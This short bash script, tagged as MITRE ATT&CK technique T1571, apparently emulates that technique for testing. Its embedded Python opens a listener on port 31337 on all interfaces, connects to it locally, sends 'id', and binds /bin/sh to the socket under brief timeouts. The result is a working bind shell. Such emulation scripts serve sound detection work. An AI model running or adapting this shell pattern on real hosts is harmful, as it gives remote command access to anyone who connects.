#!/bin/bash
# T1571: A script waits for orders at a port.
timeout 1 python3 -c 'import socket,subprocess
s=socket.create_server(("0.0.0.0",31337)); c=socket.create_connection(("127.0.0.1",31337)); a,_=s.accept(); c.sendall(b"id\n"); subprocess.run(["/bin/sh"],stdin=a,stdout=a,stderr=a,timeout=0.5)'
